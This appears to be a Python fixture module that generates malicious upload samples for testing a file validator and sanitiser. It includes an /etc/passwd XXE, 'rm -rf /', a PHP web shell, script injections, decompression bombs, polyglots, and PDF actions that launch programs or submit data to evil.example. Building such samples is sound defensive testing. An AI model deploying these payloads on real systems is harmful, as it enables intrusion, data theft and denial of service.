"""Files that people might send to do harm, made here: name → bytes."""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin


def image(format="PNG", size=(40, 30), mode="RGB", **options):
    file = io.BytesIO()
    Image.new(mode, size).save(file, format, **options)
    return file.getvalue()


def pdf(*objects, body=b"", trailer=b"", version=b"1.7"):
    """A complete PDF with a page; `objects` are more of them, as bytes between obj and endobj."""
    all_objects = [
        b"<</Type/Catalog/Pages 2 0 R" + trailer + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        *objects,
    ]
    out = b"%PDF-" + version + b"\n" + body
    at = []
    for number, content in enumerate(all_objects, 1):
        at.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(at) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in at)
    return out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(at) + 1, table)


def stream(content, *, names=b"", packed=True):
    data = zlib.compress(content) if packed else content
    filters = b"/Filter/FlateDecode" if packed else b""
    return b"<<%s%s/Length %d>>\nstream\n%s\nendstream" % (names, filters, len(data), data)


def archive(*names, content=b"x"):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        for name in names:
            packed.writestr(name, content)
    return file.getvalue()


def png_claiming(width, height):
    """A PNG whose header claims a size, with hardly any data."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JAR = archive("META-INF/MANIFEST.MF", "Evil.class")
JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def refused():
    """Each must be refused."""
    packed_action = stream(b"1 0 " + JS, names=b"/Type/ObjStm/N 1/First 4")
    return {
        "nothing": b"",
        "one byte": b"%",
        "spaces": b" " * 500,
        "text": b"hello",
        "svg": SVG,
        "svg with a bom": b"\xef\xbb\xbf" + SVG,
        "svg in a doctype": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        "html": b"<html><script>alert(1)</script></html>",
        "html as pdf": b"<html>%PDF-1.7</html>",
        "xml": b"<?xml version='1.0'?><x/>",
        "gif": image("GIF", mode="P"),
        "gifar": image("GIF", mode="P") + JAR,
        "webp": image("WEBP"),
        "bmp": image("BMP"),
        "tiff": image("TIFF"),
        "ico": image("ICO", size=(32, 32)),
        "zip": archive("a.txt"),
        "zip bomb": archive("bomb", content=b"\0" * 20_000_000),
        "jar": JAR,
        "docx": archive("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin"),
        "exe": b"MZ\x90\x00" + b"\0" * 500,
        "elf": b"\x7fELF" + b"\0" * 500,
        "shell script": b"#!/bin/sh\nrm -rf /\n",
        "php": b"<?php system($_GET['c']); ?>",
        "rtf": b"{\\rtf1\\ansi\\pard}",
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
        "postscript": b"%!PS-Adobe-3.0\n",
        "pdf after a gif": b"GIF89a" + pdf(),
        "pdf after junk": b"\0" * 100 + pdf(),
        "pdf after html": b"<html></html>\n" + pdf(),
        "pdf header alone": b"%PDF-1.7\n",
        "pdf of another kind": pdf().replace(b"%PDF-1.7", b"%PDF-9.9"),
        "pdf cut in the middle": pdf()[: len(pdf()) // 2],
        "pdf without its end": pdf().removesuffix(b"%%EOF\n"),
        "pdf with something behind": pdf() + b"x" * 2000,
        "pdf with a zip behind": pdf() + JAR,
        "pdf with a zip inside": pdf(stream(JAR, packed=False)),
        "pdf with an end in a zip comment": pdf() + archive("a") + b"%%EOF\n",
        "pdf whose table is elsewhere": pdf().replace(b"startxref\n", b"startxref\n1"),
        "pdf without pages": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\nxref\n0 1\ntrailer\n<<>>\nstartxref\n31\n%%EOF\n",
        "pdf with javascript": pdf(JS, trailer=b"/OpenAction 4 0 R"),
        "pdf with javascript alone": pdf(JS),
        "pdf with javascript in capitals of hex": pdf(b"<</S/J#61v#61Script/#4aS(app.alert\\(1\\))>>"),
        "pdf with javascript in hex": pdf(b"<</S/#4A#61#76#61#53#63#72#69#70#74>>"),
        "pdf with short js": pdf(b"<</Names[(x)]/JS 5 0 R>>"),
        "pdf with launch": pdf(b"<</S/Launch/F(calc.exe)>>"),
        "pdf with launch in hex": pdf(b"<</S/L#61unch/F(calc.exe)>>"),
        "pdf with open action": pdf(trailer=b"/OpenAction[3 0 R/Fit]"),
        "pdf with additional actions": pdf(trailer=b"/AA<</O 4 0 R>>"),
        "pdf with an attachment": pdf(stream(b"MZ", names=b"/Type/EmbeddedFile")),
        "pdf with attachments": pdf(trailer=b"/Names<</EmbeddedFiles 4 0 R>>"),
        "pdf with rich media": pdf(b"<</Subtype/RichMedia>>"),
        "pdf with a form of xml": pdf(trailer=b"/AcroForm<</XFA 4 0 R>>"),
        "pdf that submits": pdf(b"<</S/SubmitForm/F(https://evil.example)>>"),
        "pdf that imports": pdf(b"<</S/ImportData/F(x.fdf)>>"),
        "pdf that goes elsewhere": pdf(b"<</S/GoToR/F(//evil.example/share)>>"),
        "pdf that embeds a go-to": pdf(b"<</S/GoToE>>"),
        "pdf collection": pdf(trailer=b"/Collection<<>>"),
        "pdf with packed javascript": pdf(packed_action),
        "pdf with packed javascript in hex": pdf(stream(b"1 0 <</S/J#61vaScript>>", names=b"/Type/ObjStm")),
        "pdf with packed launch at a seam": pdf(
            stream(b" " * (1024 * 1024 - 4) + b"/Launch /F(x)", names=b"/Type/ObjStm")
        ),
        "pdf with packed javascript called an image": pdf(stream(JS, names=b"/Subtype/Image")),
        "pdf with doubly hidden objects": pdf(stream(b"q", names=b"/Type/ObjStm/F[/ASCIIHexDecode]")),
        "pdf that unpacks without end": pdf(stream(b"\0" * 300_000_000)),
        "pdf with a password": pdf(trailer=b"/Encrypt 4 0 R"),
        "pdf with a script of html": pdf(body=b"% <script>alert(1)</script>\n"),
        "pdf with php": pdf(body=b"% <?php echo 1 ?>\n"),
        "png header alone": b"\x89PNG\r\n\x1a\n",
        "png cut off": image("PNG", size=(400, 300))[:100],
        "png with wrong sums": image("PNG")[:40] + b"\xff\xff\xff\xff" + image("PNG")[44:],
        "png bomb": png_claiming(60_000, 60_000),
        "png of 51 megapixels": png_claiming(10_000, 5_100),
        "png of two thousand million": png_claiming(0x7FFFFFFF, 1),
        "png without width": png_claiming(0, 10),
        "png with pdf's name": b"%PNG" + image("PNG"),
        "jpeg header alone": b"\xff\xd8\xff",
        "jpeg cut off": image("JPEG", size=(400, 300))[:200],
        "jpeg with html": b"\xff\xd8\xff<html><script>alert(1)</script></html>",
        "jpeg of nothing": b"\xff\xd8\xff\xe0" + b"\0" * 1000,
        "too large": image("PNG") + b"\0" * (10 * 1024 * 1024),
        "too large by a byte": b"%PDF-1.7\n".ljust(10 * 1024 * 1024 + 1, b"\0"),
    }


def cleaned():
    """Each is an image that may be kept, once what hangs on it is gone: name → (bytes, what must be gone)."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "<script>alert(1)</script>")
    text.add_itxt("XML:com.adobe.xmp", "<rdf:RDF>secret</rdf:RDF>")
    exif = Image.Exif()
    exif[0x010E], exif[0x8298] = "Taken at home <?php", "secret owner"
    return {
        "png with a jar behind": (image("PNG") + JAR, b"Evil.class"),
        "jpeg with a jar behind": (image("JPEG") + JAR, b"Evil.class"),
        "png with html behind": (image("PNG") + b"<script>alert(1)</script>", b"<script"),
        "png with a pdf behind": (image("PNG") + pdf(JS), b"/JavaScript"),
        "png with a comment": (image("PNG", pnginfo=text), b"<script"),
        "png with xmp": (image("PNG", pnginfo=text), b"secret"),
        "jpeg with exif": (image("JPEG", exif=exif), b"secret owner"),
        "jpeg with php in exif": (image("JPEG", exif=exif), b"<?php"),
        "jpeg with a comment": (image("JPEG", comment=b"<script>alert(1)</script>"), b"<script"),
        "jpeg with a profile": (image("JPEG", icc_profile=b"secret profile " * 10), b"secret profile"),
    }
